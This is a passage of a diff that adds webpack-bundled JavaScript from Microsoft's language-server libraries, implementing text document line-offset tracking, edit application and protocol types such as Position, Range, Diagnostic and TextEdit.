+    }
+    else if (typeof define === "function" && define.amd) {
+        define(["require", "exports"], factory);
+    }
+})(function (require, exports) {
+    /* --------------------------------------------------------------------------------------------
+     * Copyright (c) Microsoft Corporation. All rights reserved.
+     * Licensed under the MIT License. See License.txt in the project root for license information.
+     * ------------------------------------------------------------------------------------------ */
+    'use strict';
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.TextDocument = void 0;
+    var FullTextDocument = /** @class */ (function () {
+        function FullTextDocument(uri, languageId, version, content) {
+            this._uri = uri;
+            this._languageId = languageId;
+            this._version = version;
+            this._content = content;
+            this._lineOffsets = undefined;
+        }
+        Object.defineProperty(FullTextDocument.prototype, "uri", {
+            get: function () {
+                return this._uri;
+            },
+            enumerable: false,
+            configurable: true
+        });
+        Object.defineProperty(FullTextDocument.prototype, "languageId", {
+            get: function () {
+                return this._languageId;
+            },
+            enumerable: false,
+            configurable: true
+        });
+        Object.defineProperty(FullTextDocument.prototype, "version", {
+            get: function () {
+                return this._version;
+            },
+            enumerable: false,
+            configurable: true
+        });
+        FullTextDocument.prototype.getText = function (range) {
+            if (range) {
+                var start = this.offsetAt(range.start);
+                var end = this.offsetAt(range.end);
+                return this._content.substring(start, end);
+            }
+            return this._content;
+        };
+        FullTextDocument.prototype.update = function (changes, version) {
+            for (var _i = 0, changes_1 = changes; _i < changes_1.length; _i++) {
+                var change = changes_1[_i];
+                if (FullTextDocument.isIncremental(change)) {
+                    // makes sure start is before end
+                    var range = getWellformedRange(change.range);
+                    // update content
+                    var startOffset = this.offsetAt(range.start);
+                    var endOffset = this.offsetAt(range.end);
+                    this._content = this._content.substring(0, startOffset) + change.text + this._content.substring(endOffset, this._content.length);
+                    var insertedEndOffset = startOffset + change.text.length;
+                    var crlfAtStart = this._content.charCodeAt(startOffset - 1) === 13 /* CharCode.CarriageReturn */ && this._content.charCodeAt(startOffset) === 10 /* CharCode.LineFeed */;
+                    var crlfAtEnd = this._content.charCodeAt(insertedEndOffset - 1) === 13 /* CharCode.CarriageReturn */ && this._content.charCodeAt(insertedEndOffset) === 10 /* CharCode.LineFeed */;
+                    if (crlfAtStart || crlfAtEnd) {
+                        // A CRLF pair across an edit boundary is not included in the inserted text's line offsets.
+                        this._lineOffsets = undefined;
+                        continue;
+                    }
+                    // update the offsets
+                    var startLine = Math.max(range.start.line, 0);
+                    var endLine = Math.max(range.end.line, 0);
+                    var lineOffsets = this._lineOffsets;
+                    var addedLineOffsets = computeLineOffsets(change.text, false, startOffset);
+                    if (endLine - startLine === addedLineOffsets.length) {
+                        for (var i = 0, len = addedLineOffsets.length; i < len; i++) {
+                            lineOffsets[i + startLine + 1] = addedLineOffsets[i];
+                        }
+                    }
+                    else {
+                        if (addedLineOffsets.length < 10000) {
+                            lineOffsets.splice.apply(lineOffsets, __spreadArray([startLine + 1, endLine - startLine], addedLineOffsets, false));
+                        }
+                        else { // avoid too many arguments for splice
+                            this._lineOffsets = lineOffsets = lineOffsets.slice(0, startLine + 1).concat(addedLineOffsets, lineOffsets.slice(endLine + 1));
+                        }
+                    }
+                    var diff = change.text.length - (endOffset - startOffset);
+                    if (diff !== 0) {
+                        for (var i = startLine + 1 + addedLineOffsets.length, len = lineOffsets.length; i < len; i++) {
+                            lineOffsets[i] = lineOffsets[i] + diff;
+                        }
+                    }
+                }
+                else if (FullTextDocument.isFull(change)) {
+                    this._content = change.text;
+                    this._lineOffsets = undefined;
+                }
+                else {
+                    throw new Error('Unknown change event received');
+                }
+            }
+            this._version = version;
+        };
+        FullTextDocument.prototype.getLineOffsets = function () {
+            if (this._lineOffsets === undefined) {
+                this._lineOffsets = computeLineOffsets(this._content, true);
+            }
+            return this._lineOffsets;
+        };
+        FullTextDocument.prototype.positionAt = function (offset) {
+            offset = Math.max(Math.min(offset, this._content.length), 0);
+            var lineOffsets = this.getLineOffsets();
+            var low = 0, high = lineOffsets.length;
+            if (high === 0) {
+                return { line: 0, character: offset };
+            }
+            while (low < high) {
+                var mid = Math.floor((low + high) / 2);
+                if (lineOffsets[mid] > offset) {
+                    high = mid;
+                }
+                else {
+                    low = mid + 1;
+                }
+            }
+            // low is the least x for which the line offset is larger than the current offset
+            // or array.length if no line offset is larger than the current offset
+            var line = low - 1;
+            offset = this.ensureBeforeEOL(offset, lineOffsets[line]);
+            return { line: line, character: offset - lineOffsets[line] };
+        };
+        FullTextDocument.prototype.offsetAt = function (position) {
+            var lineOffsets = this.getLineOffsets();
+            if (position.line >= lineOffsets.length) {
+                return this._content.length;
+            }
+            else if (position.line < 0) {
+                return 0;
+            }
+            var lineOffset = lineOffsets[position.line];
+            if (position.character <= 0) {
+                return lineOffset;
+            }
+            var nextLineOffset = (position.line + 1 < lineOffsets.length) ? lineOffsets[position.line + 1] : this._content.length;
+            var offset = Math.min(lineOffset + position.character, nextLineOffset);
+            return this.ensureBeforeEOL(offset, lineOffset);
+        };
+        FullTextDocument.prototype.getLineRange = function (line) {
+            var lineOffsets = this.getLineOffsets();
+            if (line >= lineOffsets.length) {
+                var lastLine = lineOffsets.length - 1;
+                return { start: { line: lastLine, character: 0 }, end: { line: lastLine, character: this._content.length - lineOffsets[lastLine] } };
+            }
+            else if (line < 0) {
+                return { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } };
+            }
+            var startOffset = lineOffsets[line];
+            var nextLineOffset = (line + 1 < lineOffsets.length) ? lineOffsets[line + 1] : this._content.length;
+            var endOffset = this.ensureBeforeEOL(nextLineOffset, startOffset);
+            return { start: { line: line, character: 0 }, end: { line: line, character: endOffset - startOffset } };
+        };
+        FullTextDocument.prototype.getEOLCharacters = function (line) {
+            var lineOffsets = this.getLineOffsets();
+            if (line >= lineOffsets.length) {
+                return '';
+            }
+            else if (line < 0) {
+                return '';
+            }
+            var nextLineOffset = (line + 1 < lineOffsets.length) ? lineOffsets[line + 1] : this._content.length;
+            var eolOffset = this.ensureBeforeEOL(nextLineOffset, lineOffsets[line]);
+            return this._content.substring(eolOffset, nextLineOffset);
+        };
+        FullTextDocument.prototype.ensureBeforeEOL = function (offset, lineOffset) {
+            while (offset > lineOffset && isEOL(this._content.charCodeAt(offset - 1))) {
+                offset--;
+            }
+            return offset;
+        };
+        Object.defineProperty(FullTextDocument.prototype, "lineCount", {
+            get: function () {
+                return this.getLineOffsets().length;
+            },
+            enumerable: false,
+            configurable: true
+        });
+        FullTextDocument.isIncremental = function (event) {
+            var candidate = event;
+            return candidate !== undefined && candidate !== null &&
+                typeof candidate.text === 'string' && candidate.range !== undefined &&
+                (candidate.rangeLength === undefined || typeof candidate.rangeLength === 'number');
+        };
+        FullTextDocument.isFull = function (event) {
+            var candidate = event;
+            return candidate !== undefined && candidate !== null &&
+                typeof candidate.text === 'string' && candidate.range === undefined && candidate.rangeLength === undefined;
+        };
+        return FullTextDocument;
+    }());
+    var TextDocument;
+    (function (TextDocument) {
+        /**
+         * Creates a new text document.
+         *
+         * @param uri The document's uri.
+         * @param languageId  The document's language Id.
+         * @param version The document's initial version number.
+         * @param content The document's content.
+         */
+        function create(uri, languageId, version, content) {
+            return new FullTextDocument(uri, languageId, version, content);
+        }
+        TextDocument.create = create;
+        /**
+         * Updates a TextDocument by modifying its content.
+         *
+         * @param document the document to update. Only documents created by TextDocument.create are valid inputs.
+         * @param changes the changes to apply to the document.
+         * @param version the changes version for the document.
+         * @returns The updated TextDocument. Note: That's the same document instance passed in as first parameter.
+         *
+         */
+        function update(document, changes, version) {
+            if (document instanceof FullTextDocument) {
+                document.update(changes, version);
+                return document;
+            }
+            else {
+                throw new Error('TextDocument.update: document must be created by TextDocument.create');
+            }
+        }
+        TextDocument.update = update;
+        function applyEdits(document, edits) {
+            var text = document.getText();
+            var sortedEdits = mergeSort(edits.map(getWellformedEdit), function (a, b) {
+                var diff = a.range.start.line - b.range.start.line;
+                if (diff === 0) {
+                    return a.range.start.character - b.range.start.character;
+                }
+                return diff;
+            });
+            var lastModifiedOffset = 0;
+            var spans = [];
+            for (var _i = 0, sortedEdits_1 = sortedEdits; _i < sortedEdits_1.length; _i++) {
+                var e = sortedEdits_1[_i];
+                var startOffset = document.offsetAt(e.range.start);
+                if (startOffset < lastModifiedOffset) {
+                    throw new Error('Overlapping edit');
+                }
+                else if (startOffset > lastModifiedOffset) {
+                    spans.push(text.substring(lastModifiedOffset, startOffset));
+                }
+                if (e.newText.length) {
+                    spans.push(e.newText);
+                }
+                lastModifiedOffset = document.offsetAt(e.range.end);
+            }
+            spans.push(text.substr(lastModifiedOffset));
+            return spans.join('');
+        }
+        TextDocument.applyEdits = applyEdits;
+    })(TextDocument || (exports.TextDocument = TextDocument = {}));
+    function mergeSort(data, compare) {
+        if (data.length <= 1) {
+            // sorted
+            return data;
+        }
+        var p = (data.length / 2) | 0;
+        var left = data.slice(0, p);
+        var right = data.slice(p);
+        mergeSort(left, compare);
+        mergeSort(right, compare);
+        var leftIdx = 0;
+        var rightIdx = 0;
+        var i = 0;
+        while (leftIdx < left.length && rightIdx < right.length) {
+            var ret = compare(left[leftIdx], right[rightIdx]);
+            if (ret <= 0) {
+                // smaller_equal -> take left to preserve order
+                data[i++] = left[leftIdx++];
+            }
+            else {
+                // greater -> take right
+                data[i++] = right[rightIdx++];
+            }
+        }
+        while (leftIdx < left.length) {
+            data[i++] = left[leftIdx++];
+        }
+        while (rightIdx < right.length) {
+            data[i++] = right[rightIdx++];
+        }
+        return data;
+    }
+    function computeLineOffsets(text, isAtLineStart, textOffset) {
+        if (textOffset === void 0) { textOffset = 0; }
+        var result = isAtLineStart ? [textOffset] : [];
+        for (var i = 0; i < text.length; i++) {
+            var ch = text.charCodeAt(i);
+            if (isEOL(ch)) {
+                if (ch === 13 /* CharCode.CarriageReturn */ && i + 1 < text.length && text.charCodeAt(i + 1) === 10 /* CharCode.LineFeed */) {
+                    i++;
+                }
+                result.push(textOffset + i + 1);
+            }
+        }
+        return result;
+    }
+    function isEOL(char) {
+        return char === 13 /* CharCode.CarriageReturn */ || char === 10 /* CharCode.LineFeed */;
+    }
+    function getWellformedRange(range) {
+        var start = range.start;
+        var end = range.end;
+        if (start.line > end.line || (start.line === end.line && start.character > end.character)) {
+            return { start: end, end: start };
+        }
+        return range;
+    }
+    function getWellformedEdit(textEdit) {
+        var range = getWellformedRange(textEdit.range);
+        if (range !== textEdit.range) {
+            return { newText: textEdit.newText, range: range };
+        }
+        return textEdit;
+    }
+});
+
+
+/***/ }),
+
+/***/ 4612:
+/***/ ((module, exports) => {
+
+(function (factory) {
+    if ( true && typeof module.exports === "object") {
+        var v = factory(__WEBPACK_EXTERNAL_createRequire(import.meta.url), exports);
+        if (v !== undefined) module.exports = v;
+    }
+    else if (typeof define === "function" && define.amd) {
+        define(["require", "exports"], factory);
+    }
+})(function () {
+    /* --------------------------------------------------------------------------------------------
+     * Copyright (c) Microsoft Corporation. All rights reserved.
+     * Licensed under the MIT License. See License.txt in the project root for license information.
+     * ------------------------------------------------------------------------------------------ */
+    'use strict';
+    Object.defineProperty(exports, "__esModule", ({ value: true }));
+    exports.TextDocument = exports.EOL = exports.WorkspaceFolder = exports.InlineCompletionContext = exports.SelectedCompletionInfo = exports.InlineCompletionTriggerKind = exports.InlineCompletionList = exports.InlineCompletionItem = exports.StringValue = exports.InlayHint = exports.InlayHintLabelPart = exports.InlayHintKind = exports.InlineValueContext = exports.InlineValueEvaluatableExpression = exports.InlineValueVariableLookup = exports.InlineValueText = exports.SemanticTokens = exports.SemanticTokenModifiers = exports.SemanticTokenTypes = exports.SelectionRange = exports.DocumentLink = exports.FormattingOptions = exports.CodeLens = exports.CodeAction = exports.CodeActionTag = exports.CodeActionContext = exports.CodeActionTriggerKind = exports.CodeActionKind = exports.DocumentSymbol = exports.WorkspaceSymbol = exports.SymbolInformation = exports.SymbolTag = exports.SymbolKind = exports.DocumentHighlight = exports.DocumentHighlightKind = exports.SignatureInformation = exports.ParameterInformation = exports.Hover = exports.MarkedString = exports.CompletionList = exports.CompletionItem = exports.CompletionItemLabelDetails = exports.ApplyKind = exports.InsertTextMode = exports.InsertReplaceEdit = exports.CompletionItemTag = exports.InsertTextFormat = exports.CompletionItemKind = exports.MarkupContent = exports.MarkupKind = exports.TextDocumentItem = exports.LanguageKind = exports.OptionalVersionedTextDocumentIdentifier = exports.VersionedTextDocumentIdentifier = exports.TextDocumentIdentifier = exports.WorkspaceChange = exports.SnippetTextEdit = exports.WorkspaceEdit = exports.DeleteFile = exports.RenameFile = exports.CreateFile = exports.TextDocumentEdit = exports.AnnotatedTextEdit = exports.ChangeAnnotationIdentifier = exports.ChangeAnnotation = exports.TextEdit = exports.Command = exports.Diagnostic = exports.CodeDescription = exports.DiagnosticTag = exports.DiagnosticSeverity = exports.DiagnosticRelatedInformation = exports.FoldingRange = exports.FoldingRangeKind = exports.ColorPresentation = exports.ColorInformation = exports.Color = exports.LocationLink = exports.Location = exports.Range = exports.Position = exports.uinteger = exports.integer = exports.URI = exports.DocumentUri = void 0;
+    var DocumentUri;
+    (function (DocumentUri) {
+        function is(value) {
+            return typeof value === 'string';
+        }
+        DocumentUri.is = is;
+    })(DocumentUri || (exports.DocumentUri = DocumentUri = {}));
+    var URI;
+    (function (URI) {
+        function is(value) {
+            return typeof value === 'string';
+        }
+        URI.is = is;
+    })(URI || (exports.URI = URI = {}));
+    var integer;
+    (function (integer) {
+        integer.MIN_VALUE = -2147483648;
+        integer.MAX_VALUE = 2147483647;
+        function is(value) {
+            return typeof value === 'number' && integer.MIN_VALUE <= value && value <= integer.MAX_VALUE;
+        }
+        integer.is = is;
+    })(integer || (exports.integer = integer = {}));
+    var uinteger;
+    (function (uinteger) {
+        uinteger.MIN_VALUE = 0;
+        uinteger.MAX_VALUE = 2147483647;
+        function is(value) {
+            return typeof value === 'number' && uinteger.MIN_VALUE <= value && value <= uinteger.MAX_VALUE;
+        }
+        uinteger.is = is;
+    })(uinteger || (exports.uinteger = uinteger = {}));
+    /**
+     * The Position namespace provides helper functions to work with
+     * {@link Position} literals.
+     */
+    var Position;
+    (function (Position) {
+        /**
+         * Creates a new Position literal from the given line and character.
+         * @param line The position's line.
+         * @param character The position's character.
+         */
+        function create(line, character) {
+            if (line === Number.MAX_VALUE) {
+                line = uinteger.MAX_VALUE;
+            }
+            if (character === Number.MAX_VALUE) {
+                character = uinteger.MAX_VALUE;
+            }
+            return { line: line, character: character };
+        }
+        Position.create = create;
+        /**
+         * Checks whether the given literal conforms to the {@link Position} interface.
+         */
+        function is(value) {
+            var candidate = value;
+            return Is.objectLiteral(candidate) && Is.uinteger(candidate.line) && Is.uinteger(candidate.character);
+        }
+        Position.is = is;
+    })(Position || (exports.Position = Position = {}));
+    /**
+     * The Range namespace provides helper functions to work with
+     * {@link Range} literals.
+     */
+    var Range;
+    (function (Range) {
+        function create(one, two, three, four) {
+            if (Is.uinteger(one) && Is.uinteger(two) && Is.uinteger(three) && Is.uinteger(four)) {
+                return { start: Position.create(one, two), end: Position.create(three, four) };
+            }
+            else if (Position.is(one) && Position.is(two)) {
+                return { start: one, end: two };
+            }
+            else {
+                throw new Error("Range#create called with invalid arguments[".concat(one, ", ").concat(two, ", ").concat(three, ", ").concat(four, "]"));
+            }
+        }
+        Range.create = create;
+        /**
+         * Checks whether the given literal conforms to the {@link Range} interface.
+         */
+        function is(value) {
+            var candidate = value;
+            return Is.objectLiteral(candidate) && Position.is(candidate.start) && Position.is(candidate.end);
+        }
+        Range.is = is;
+    })(Range || (exports.Range = Range = {}));
+    /**
+     * The Location namespace provides helper functions to work with
+     * {@link Location} literals.
+     */
+    var Location;
+    (function (Location) {
+        /**
+         * Creates a Location literal.
+         * @param uri The location's uri.
+         * @param range The location's range.
+         */
+        function create(uri, range) {
+            return { uri: uri, range: range };
+        }
+        Location.create = create;
+        /**
+         * Checks whether the given literal conforms to the {@link Location} interface.
+         */
+        function is(value) {
+            var candidate = value;
+            return Is.objectLiteral(candidate) && Range.is(candidate.range) && (Is.string(candidate.uri) || Is.undefined(candidate.uri));
+        }
+        Location.is = is;
+    })(Location || (exports.Location = Location = {}));
+    /**
+     * The LocationLink namespace provides helper functions to work with
+     * {@link LocationLink} literals.
+     */
+    var LocationLink;
+    (function (LocationLink) {
+        /**
+         * Creates a LocationLink literal.
+         * @param targetUri The definition's uri.
+         * @param targetRange The full range of the definition.
+         * @param targetSelectionRange The span of the symbol definition at the target.
+         * @param originSelectionRange The span of the symbol being defined in the originating source file.
+         */
+        function create(targetUri, targetRange, targetSelectionRange, originSelectionRange) {
+            return { targetUri: targetUri, targetRange: targetRange, targetSelectionRange: targetSelectionRange, originSelectionRange: originSelectionRange };
+        }
+        LocationLink.create = create;
+        /**
+         * Checks whether the given literal conforms to the {@link LocationLink} interface.
+         */
+        function is(value) {
+            var candidate = value;
+            return Is.objectLiteral(candidate) && Range.is(candidate.targetRange) && Is.string(candidate.targetUri)
+                && Range.is(candidate.targetSelectionRange)
+                && (Range.is(candidate.originSelectionRange) || Is.undefined(candidate.originSelectionRange));
+        }
+        LocationLink.is = is;
+    })(LocationLink || (exports.LocationLink = LocationLink = {}));
+    /**
+     * The Color namespace provides helper functions to work with
+     * {@link Color} literals.
+     */
+    var Color;
+    (function (Color) {
+        /**
+         * Creates a new Color literal.
+         */
+        function create(red, green, blue, alpha) {
+            return {
+                red: red,
+                green: green,
+                blue: blue,
+                alpha: alpha,
+            };
+        }
+        Color.create = create;
+        /**
+         * Checks whether the given literal conforms to the {@link Color} interface.
+         */
+        function is(value) {
+            var candidate = value;
+            return Is.objectLiteral(candidate) && Is.numberRange(candidate.red, 0, 1)
+                && Is.numberRange(candidate.green, 0, 1)
+                && Is.numberRange(candidate.blue, 0, 1)
+                && Is.numberRange(candidate.alpha, 0, 1);
+        }
+        Color.is = is;
+    })(Color || (exports.Color = Color = {}));
+    /**
+     * The ColorInformation namespace provides helper functions to work with
+     * {@link ColorInformation} literals.
+     */
+    var ColorInformation;
+    (function (ColorInformation) {
+        /**
+         * Creates a new ColorInformation literal.
+         */
+        function create(range, color) {
+            return {
+                range: range,
+                color: color,
+            };
+        }
+        ColorInformation.create = create;
+        /**
+         * Checks whether the given literal conforms to the {@link ColorInformation} interface.
+         */
+        function is(value) {
+            var candidate = value;
+            return Is.objectLiteral(candidate) && Range.is(candidate.range) && Color.is(candidate.color);
+        }
+        ColorInformation.is = is;
+    })(ColorInformation || (exports.ColorInformation = ColorInformation = {}));
+    /**
+     * The Color namespace provides helper functions to work with
+     * {@link ColorPresentation} literals.
+     */
+    var ColorPresentation;
+    (function (ColorPresentation) {
+        /**
+         * Creates a new ColorInformation literal.
+         */
+        function create(label, textEdit, additionalTextEdits) {
+            return {
+                label: label,
+                textEdit: textEdit,
+                additionalTextEdits: additionalTextEdits,
+            };
+        }
+        ColorPresentation.create = create;
+        /**
+         * Checks whether the given literal conforms to the {@link ColorInformation} interface.
+         */
+        function is(value) {
+            var candidate = value;
+            return Is.objectLiteral(candidate) && Is.string(candidate.label)
+                && (Is.undefined(candidate.textEdit) || TextEdit.is(candidate.textEdit))
+                && (Is.undefined(candidate.additionalTextEdits) || Is.typedArray(candidate.additionalTextEdits, TextEdit.is));
+        }
+        ColorPresentation.is = is;
+    })(ColorPresentation || (exports.ColorPresentation = ColorPresentation = {}));
+    /**
+     * A set of predefined range kinds.
+     */
+    var FoldingRangeKind;
+    (function (FoldingRangeKind) {
+        /**
+         * Folding range for a comment
+         */
+        FoldingRangeKind.Comment = 'comment';
+        /**
+         * Folding range for an import or include
+         */
+        FoldingRangeKind.Imports = 'imports';
+        /**
+         * Folding range for a region (e.g. `#region`)
+         */
+        FoldingRangeKind.Region = 'region';
+    })(FoldingRangeKind || (exports.FoldingRangeKind = FoldingRangeKind = {}));
+    /**
+     * The folding range namespace provides helper functions to work with
+     * {@link FoldingRange} literals.
+     */
+    var FoldingRange;
+    (function (FoldingRange) {
+        /**
+         * Creates a new FoldingRange literal.
+         */
+        function create(startLine, endLine, startCharacter, endCharacter, kind, collapsedText) {
+            var result = {
+                startLine: startLine,
+                endLine: endLine
+            };
+            if (Is.defined(startCharacter)) {
+                result.startCharacter = startCharacter;
+            }
+            if (Is.defined(endCharacter)) {
+                result.endCharacter = endCharacter;
+            }
+            if (Is.defined(kind)) {
+                result.kind = kind;
+            }
+            if (Is.defined(collapsedText)) {
+                result.collapsedText = collapsedText;
+            }
+            return result;
+        }
+        FoldingRange.create = create;
+        /**
+         * Checks whether the given literal conforms to the {@link FoldingRange} interface.
+         */
+        function is(value) {
+            var candidate = value;
+            return Is.objectLiteral(candidate) && Is.uinteger(candidate.startLine) && Is.uinteger(candidate.endLine)
+                && (Is.undefined(candidate.startCharacter) || Is.uinteger(candidate.startCharacter))
+                && (Is.undefined(candidate.endCharacter) || Is.uinteger(candidate.endCharacter))
+                && (Is.undefined(candidate.kind) || Is.string(candidate.kind));
+        }
+        FoldingRange.is = is;
+    })(FoldingRange || (exports.FoldingRange = FoldingRange = {}));
+    /**
+     * The DiagnosticRelatedInformation namespace provides helper functions to work with
+     * {@link DiagnosticRelatedInformation} literals.
+     */
+    var DiagnosticRelatedInformation;
+    (function (DiagnosticRelatedInformation) {
+        /**
+         * Creates a new DiagnosticRelatedInformation literal.
+         */
+        function create(location, message) {
+            return {
+                location: location,
+                message: message
+            };
+        }
+        DiagnosticRelatedInformation.create = create;
+        /**
+         * Checks whether the given literal conforms to the {@link DiagnosticRelatedInformation} interface.
+         */
+        function is(value) {
+            var candidate = value;
+            return Is.defined(candidate) && Location.is(candidate.location) && Is.string(candidate.message);
+        }
+        DiagnosticRelatedInformation.is = is;
+    })(DiagnosticRelatedInformation || (exports.DiagnosticRelatedInformation = DiagnosticRelatedInformation = {}));
+    /**
+     * The diagnostic's severity.
+     */
+    var DiagnosticSeverity;
+    (function (DiagnosticSeverity) {
+        /**
+         * Reports an error.
+         */
+        DiagnosticSeverity.Error = 1;
+        /**
+         * Reports a warning.
+         */
+        DiagnosticSeverity.Warning = 2;
+        /**
+         * Reports an information.
+         */
+        DiagnosticSeverity.Information = 3;
+        /**
+         * Reports a hint.
+         */
+        DiagnosticSeverity.Hint = 4;
+    })(DiagnosticSeverity || (exports.DiagnosticSeverity = DiagnosticSeverity = {}));
+    /**
+     * The diagnostic tags.
+     *
+     * @since 3.15.0
+     */
+    var DiagnosticTag;
+    (function (DiagnosticTag) {
+        /**
+         * Unused or unnecessary code.
+         *
+         * Clients are allowed to render diagnostics with this tag faded out instead of having
+         * an error squiggle.
+         */
+        DiagnosticTag.Unnecessary = 1;
+        /**
+         * Deprecated or obsolete code.
+         *
+         * Clients are allowed to rendered diagnostics with this tag strike through.
+         */
+        DiagnosticTag.Deprecated = 2;
+    })(DiagnosticTag || (exports.DiagnosticTag = DiagnosticTag = {}));
+    /**
+     * The CodeDescription namespace provides functions to deal with descriptions for diagnostic codes.
+     *
+     * @since 3.16.0
+     */
+    var CodeDescription;
+    (function (CodeDescription) {
+        function is(value) {
+            var candidate = value;
+            return Is.objectLiteral(candidate) && Is.string(candidate.href);
+        }
+        CodeDescription.is = is;
+    })(CodeDescription || (exports.CodeDescription = CodeDescription = {}));
+    /**
+     * The Diagnostic namespace provides helper functions to work with
+     * {@link Diagnostic} literals.
+     */
+    var Diagnostic;
+    (function (Diagnostic) {
+        /**
+         * Creates a new Diagnostic literal.
+         */
+        function create(range, message, severity, code, source, relatedInformation) {
+            var result = { range: range, message: message };
+            if (Is.defined(severity)) {
+                result.severity = severity;
+            }
+            if (Is.defined(code)) {
+                result.code = code;
+            }
+            if (Is.defined(source)) {
+                result.source = source;
+            }
+            if (Is.defined(relatedInformation)) {
+                result.relatedInformation = relatedInformation;
+            }
+            return result;
+        }
+        Diagnostic.create = create;
+        /**
+         * Checks whether the given literal conforms to the {@link Diagnostic} interface.
+         */
+        function is(value) {
+            var _a;
+            var candidate = value;
+            return Is.defined(candidate)
+                && Range.is(candidate.range)
+                && (Is.string(candidate.message) || MarkupContent.is(candidate.message))
+                && (Is.number(candidate.severity) || Is.undefined(candidate.severity))
+                && (Is.integer(candidate.code) || Is.string(candidate.code) || Is.undefined(candidate.code))
+                && (Is.undefined(candidate.codeDescription) || (Is.string((_a = candidate.codeDescription) === null || _a === void 0 ? void 0 : _a.href)))
+                && (Is.string(candidate.source) || Is.undefined(candidate.source))
+                && (Is.undefined(candidate.relatedInformation) || Is.typedArray(candidate.relatedInformation, DiagnosticRelatedInformation.is));
+        }
+        Diagnostic.is = is;
+        /**
+         * Checks whether the given diagnostic's message conforms to the 3.17.0
+         * version of the protocol where the message is a string.
+         *
+         * @param value the diagnostic
+         * @returns true if the diagnostic's message is a string, false otherwise.
+         */
+        function is3_17(value) {
+            return Is.string(value.message);
+        }
+        Diagnostic.is3_17 = is3_17;
+        /**
+         * Gets the message string of a diagnostic. If the message is already a
+         * string, it is returned as is. If the message is a MarkupContent,
+         * the value of the MarkupContent is returned. Otherwise an error is thrown.
+         *
+         * @param diagnostic the diagnostic to get the message string from.
+         * @returns the message string of the given diagnostic.
+         */
+        function getMessageString(diagnostic) {
+            if (Is.string(diagnostic.message)) {
+                return diagnostic.message;
+            }
+            else if (MarkupContent.is(diagnostic.message)) {
+                return diagnostic.message.value;
+            }
+            else {
+                throw new Error("Unknown message type ".concat(typeof diagnostic.message));
+            }
+        }
+        Diagnostic.getMessageString = getMessageString;
+    })(Diagnostic || (exports.Diagnostic = Diagnostic = {}));
+    /**
+     * The Command namespace provides helper functions to work with
+     * {@link Command} literals.
+     */
+    var Command;
+    (function (Command) {
+        /**
+         * Creates a new Command literal.
+         */
+        function create(title, command) {
+            var args = [];
+            for (var _i = 2; _i < arguments.length; _i++) {
+                args[_i - 2] = arguments[_i];
+            }
+            var result = { title: title, command: command };
+            if (Is.defined(args) && args.length > 0) {
+                result.arguments = args;
+            }
+            return result;
+        }
+        Command.create = create;
+        /**
+         * Checks whether the given literal conforms to the {@link Command} interface.
+         */
+        function is(value) {
+            var candidate = value;
+            return Is.defined(candidate) && Is.string(candidate.title) && (candidate.tooltip === undefined || Is.string(candidate.tooltip)) && Is.string(candidate.command);
+        }
+        Command.is = is;
+    })(Command || (exports.Command = Command = {}));
+    /**
+     * The TextEdit namespace provides helper function to create replace,
+     * insert and delete edits more easily.
+     */
+    var TextEdit;
+    (function (TextEdit) {
+        /**
+         * Creates a replace text edit.
+         * @param range The range of text to be replaced.
+         * @param newText The new text.
+         */
+        function replace(range, newText) {
+            return { range: range, newText: newText };
+        }
+        TextEdit.replace = replace;
+        /**
+         * Creates an insert text edit.
+         * @param position The position to insert the text at.
+         * @param newText The text to be inserted.
+         */
+        function insert(position, newText) {
+            return { range: { start: position, end: position }, newText: newText };
+        }
+        TextEdit.insert = insert;
+        /**
+         * Creates a delete text edit.
+         * @param range The range of text to be deleted.
+         */
+        function del(range) {
+            return { range: range, newText: '' };
+        }
+        TextEdit.del = del;
+        function is(value) {
+            var candidate = value;
+            return Is.objectLiteral(candidate)
+                && Is.string(candidate.newText)
+                && Range.is(candidate.range);
+        }
+        TextEdit.is = is;
+    })(TextEdit || (exports.TextEdit = TextEdit = {}));
+    var ChangeAnnotation;
+    (function (ChangeAnnotation) {
+        function create(label, needsConfirmation, description) {
+            var result = { label: label };
+            if (needsConfirmation !== undefined) {
+                result.needsConfirmation = needsConfirmation;
+            }
+            if (description !== undefined) {
+                result.description = description;
+            }
+            return result;
+        }
+        ChangeAnnotation.create = create;
+        function is(value) {
+            var candidate = value;
+            return Is.objectLiteral(candidate) && Is.string(candidate.label) &&
+                (Is.boolean(candidate.needsConfirmation) || candidate.needsConfirmation === undefined) &&
+                (Is.string(candidate.description) || candidate.description === undefined);
+        }
+        ChangeAnnotation.is = is;
+    })(ChangeAnnotation || (exports.ChangeAnnotation = ChangeAnnotation = {}));
+    var ChangeAnnotationIdentifier;
+    (function (ChangeAnnotationIdentifier) {
+        function is(value) {
+            var candidate = value;
+            return Is.string(candidate);
+        }
+        ChangeAnnotationIdentifier.is = is;
+    })(ChangeAnnotationIdentifier || (exports.ChangeAnnotationIdentifier = ChangeAnnotationIdentifier = {}));
+    var AnnotatedTextEdit;
+    (function (AnnotatedTextEdit) {
+        /**
+         * Creates an annotated replace text edit.
+         *
+         * @param range The range of text to be replaced.
+         * @param newText The new text.
+         * @param annotation The annotation.
+         */
+        function replace(range, newText, annotation) {
+            return { range: range, newText: newText, annotationId: annotation };
+        }
+        AnnotatedTextEdit.replace = replace;
+        /**
+         * Creates an annotated insert text edit.
+         *
+         * @param position The position to insert the text at.
+         * @param newText The text to be inserted.
+         * @param annotation The annotation.
+         */
+        function insert(position, newText, annotation) {
+            return { range: { start: position, end: position }, newText: newText, annotationId: annotation };
+        }
+        AnnotatedTextEdit.insert = insert;
+        /**
+         * Creates an annotated delete text edit.
+         *
+         * @param range The range of text to be deleted.
+         * @param annotation The annotation.
+         */
+        function del(range, annotation) {
+            return { range: range, newText: '', annotationId: annotation };
+        }
+        AnnotatedTextEdit.del = del;
+        function is(value) {
+            var candidate = value;
+            return TextEdit.is(candidate) && (ChangeAnnotation.is(candidate.annotationId) || ChangeAnnotationIdentifier.is(candidate.annotationId));
+        }
+        AnnotatedTextEdit.is = is;
+    })(AnnotatedTextEdit || (exports.AnnotatedTextEdit = AnnotatedTextEdit = {}));
+    /**
+     * The TextDocumentEdit namespace provides helper function to create
+     * an edit that manipulates a text document.
+     */
+    var TextDocumentEdit;
+    (function (TextDocumentEdit) {
+        /**
+         * Creates a new `TextDocumentEdit`
+         */
+        function create(textDocument, edits) {
+            return { textDocument: textDocument, edits: edits };
+        }
+        TextDocumentEdit.create = create;
+        function is(value) {
+            var candidate = value;
+            return Is.defined(candidate)
+                && OptionalVersionedTextDocumentIdentifier.is(candidate.textDocument)
+                && Array.isArray(candidate.edits);
+        }
